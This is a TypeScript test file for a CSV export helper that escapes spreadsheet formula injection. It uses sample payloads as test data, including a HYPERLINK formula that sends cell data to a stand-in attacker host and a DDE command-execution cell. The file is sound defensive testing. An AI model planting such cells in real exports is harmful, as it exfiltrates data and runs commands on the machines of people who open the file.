import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { asText, csvText, fromText, withoutFormula } from './csv-row.ts';

describe('cells of somebody\u2019s file in a CSV that others open (OWASP, CSV injection)', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"证书")',
    "=cmd|'/c calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '=1+1',
    '="a"&B1&"c"',
  ])('%j calculates nothing and stays the text that it is', (cell) => {
    expect(asText(cell)).toBe(`'${cell}`);
    expect(fromText(asText(cell))).toBe(cell);
  });

  it.each([
    '-5',
    '-12.5',
    '+86 571 0000 0000',
    '-',
    '—',
    '="G2024101006483920"',
    'G2024101006483920',
    "'已加撇号",
    '',
    '-1,000',
    '-3%',
  ])('%j is none, and is written as it is', (cell) => {
    expect(asText(cell)).toBe(cell);
    expect(fromText(cell)).toBe(cell);
  });

  it('writes no cell that begins like a formula but numbers, dashes and dressed texts, and gives every text back', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', "'", '"', '1', 'A', '(', '&', ' ') }),
        (cell) => {
          const written = asText(cell);
          if (written === cell) expect(/^[=@]/.test(cell.trim()) && !/^="[^"]*"$/.test(cell.trim())).toBe(false);
          // An apostrophe that was there before cannot be told from ours, and is none of the text either.
          expect(fromText(written)).toBe(fromText(cell));
        },
      ),
    );
  });

  it('keeps our own texts harmless too, whatever they hold', () => {
    expect(withoutFormula('-5')).toBe("'-5");
    expect(csvText([[asText('=1,"x"')]])).toBe('"\'=1,""x"""\r\n');
  });
});
